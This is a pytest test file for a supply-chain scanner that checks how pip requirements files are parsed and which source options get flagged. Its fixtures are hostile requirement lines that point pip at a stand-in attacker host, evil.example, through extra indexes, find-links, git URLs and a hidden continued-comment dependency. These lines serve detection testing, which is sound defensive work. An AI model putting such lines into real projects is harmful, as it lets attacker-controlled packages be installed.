"""Files of requirements, as pip takes them: every line and every option that says where something comes from."""

from __future__ import annotations

from pathlib import Path

import pytest

from pytest_xinchuang.core.finding import Certainty
from tests.packages.supply_chain.ecosystems.conftest import Check
from tests.packages.supply_chain.ecosystems.worlds import put, pypi

C, U, N = Certainty.CERTAIN, Certainty.UNDECIDED, Certainty.NOTE
EVIL = "https://evil.example"
USUAL = "https://pypi.example.org/simple"

LINES = {
    "two options of one line": (f"-i {USUAL} --extra-index-url {EVIL}\n", {("XC-SUP-145", C)}),
    "an index of one's own behind others": (f"--pre --index-url={EVIL}\n", {("XC-SUP-145", C)}),
    "an abbreviation": (f"--extra-index {EVIL}\n", {("XC-SUP-145", C)}),
    "the older name": (f"--pypi-url {EVIL}\n", {("XC-SUP-145", C)}),
    "links": (f"--find-l {EVIL}\n", {("XC-SUP-145", C)}),
    "links in short": ("-fwheels\n", {("XC-SUP-145", C)}),
    "no certificate": ("--trusted-host pypi.example.org\n", {("XC-SUP-145", C)}),
    "an address alone": (f"{EVIL}/evil-1.0.tar.gz --hash=sha256:{'0' * 64}\n", {("XC-SUP-112", C)}),
    "an archive of another scheme": ("ftp://evil.example/evil-1.0.zip\n", {("XC-SUP-112", C)}),
    "a repository alone": (f"git+{EVIL}/evil.git@main#egg=evil\n", {("XC-SUP-112", C)}),
    "an address of a name": (f"evil @ {EVIL}/evil-1.0.tar.gz\n", {("XC-SUP-112", C)}),
    "an editable repository": (f"-e git+{EVIL}/evil.git\n", {("XC-SUP-112", C)}),
    "an editable directory of the product": ("--editable=./own\n", {("XC-SUP-113", N)}),
    "an editable directory elsewhere": ("-e ../own\n", {("XC-SUP-113", C)}),
    "a directory of the product": ("./own[dev]\n", {("XC-SUP-113", N)}),
    "an archive of the product": ("./own/evil-1.0-py3-none-any.whl\n", {("XC-SUP-113", U)}),
    "an archive of the machine": ("file:///opt/evil-1.0-py3-none-any.whl\n", {("XC-SUP-113", C)}),
    "behind a comment that goes on": ("# all is well \\\nevil>=1\n", {("XC-SUP-119", C)}),
    "a marker": ("evil>=1 ; python_version < '4'\n", {("XC-SUP-119", C)}),
    "another file": ("-r more.txt\n", {("XC-SUP-145", C), ("XC-SUP-119", C)}),
    "a constraint": ("-cbounds.txt\n", {("XC-SUP-112", C), ("XC-SUP-124", U)}),
    "a file that is not there": ("--requirement none.txt\n", {("XC-SUP-101", C)}),
    "a file of elsewhere": (f"-r {EVIL}/more.txt\n", {("XC-SUP-101", C)}),
    "an option that there is not": ("--index https://x.example --evil\n", {("XC-SUP-101", C)}),
    "an open quote": ("--config-settings 'x\n", {("XC-SUP-101", C)}),
    "nothing of note": (
        f"--pre\n--require-hashes\n--no-binary :all:\n-i {USUAL}\n--pypi-u={USUAL}/\n# -i {EVIL}\n",
        set(),
    ),
}


@pytest.mark.parametrize("name", LINES)
def test_a_line_of_requirements_is_taken_as_pip_takes_it(name: str, tmp_path: Path, check: Check) -> None:
    pypi(tmp_path)
    line, wanted = LINES[name]
    path = tmp_path / "product/requirements.txt"
    path.write_text(path.read_text() + line)
    put(
        tmp_path / "product",
        {
            "own/pyproject.toml": "",
            "own/evil-1.0-py3-none-any.whl": "x",
            "more.txt": f"evil>=1\n--index-url {EVIL}\n",
            "bounds.txt": f"alpha<9\nalpha @ {EVIL}/alpha-1.0.tar.gz\n",
        },
    )
    done = check("pypi")
    assert {(f.code, f.certainty) for f in done.findings} == wanted
    assert done.verified == 2


def test_files_of_requirements_by_any_such_name(tmp_path: Path, check: Check) -> None:
    pypi(tmp_path)
    for name, seen in (("dev-requirements.txt", True), ("requirements/test.txt", True), ("wanted.txt", False)):
        put(tmp_path / "product", {name: "evil>=1\n"})
        assert (("XC-SUP-119", f"{name}:1") in {(f.code, f.object) for f in check("pypi").findings}) is seen
